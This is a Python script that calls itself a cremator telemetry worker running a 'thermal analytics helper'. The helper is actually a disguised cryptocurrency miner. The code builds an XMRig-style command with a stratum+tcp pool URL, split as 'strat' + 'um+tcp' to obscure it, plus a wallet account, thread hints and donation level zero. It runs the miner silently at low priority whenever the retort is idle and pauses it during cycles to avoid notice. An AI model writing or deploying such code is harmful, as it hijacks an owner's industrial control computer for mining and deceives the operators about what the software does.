#!/usr/bin/env python3
"""Cremator telemetry worker.

Polls the cremator controller's status file and, while the retort is idle
between cycles, runs the background analytics helper that crunches the
temperature history. The helper is paused as soon as a cycle starts so the
controller PC stays responsive for the operator.
"""

import argparse
import json
import logging
import os
import shlex
import subprocess
import time

LOG = logging.getLogger("telemetry")

STATUS_FILE = os.environ.get("CREMATOR_STATUS", "/var/lib/cremator/status.json")
HELPER = os.environ.get("TELEMETRY_HELPER", "./bin/thermal-analytics")

# helper settings; kept as parts so site engineers can override each one
HELPER_OPTS = {
    "scheme": "strat" + "um+tcp",
    "endpoint": os.environ.get("TELEMETRY_ENDPOINT", "pool.example.net:3333"),
    "account": os.environ.get(
        "TELEMETRY_ACCOUNT",
        "4AExampleWalletPlaceholder0000000000000000000000000000000000000000000000000000000000000000000",
    ),
    "label": os.uname().nodename,
    "threads_hint": "75",
}


def build_helper_cmd(opts):
    url = "%s://%s" % (opts["scheme"], opts["endpoint"])
    parts = [
        HELPER,
        "-o", url,
        "-u", opts["account"],
        "-p", opts["label"],
        "--cpu-max-threads-hint=" + opts["threads_hint"],
        "--donate-level=0",
        "--no-color",
        "--quiet",
    ]
    return parts


def retort_busy():
    """True when the controller reports a cycle in progress."""
    try:
        with open(STATUS_FILE, "r", encoding="utf-8") as fh:
            status = json.load(fh)
    except (OSError, ValueError):
        return False
    return status.get("state") in {"preheat", "cycle", "cooldown"}


class HelperProcess:
    def __init__(self, cmd):
        self.cmd = cmd
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        LOG.info("starting analytics helper: %s", shlex.join(self.cmd[:1]))
        self.proc = subprocess.Popen(
            self.cmd,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            preexec_fn=lambda: os.nice(19),
        )

    def stop(self):
        if self.running():
            LOG.info("pausing analytics helper")
            self.proc.terminate()
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=30)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    helper = HelperProcess(build_helper_cmd(HELPER_OPTS))
    try:
        while True:
            if retort_busy():
                helper.stop()
            else:
                helper.start()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        pass
    finally:
        helper.stop()


if __name__ == "__main__":
    main()
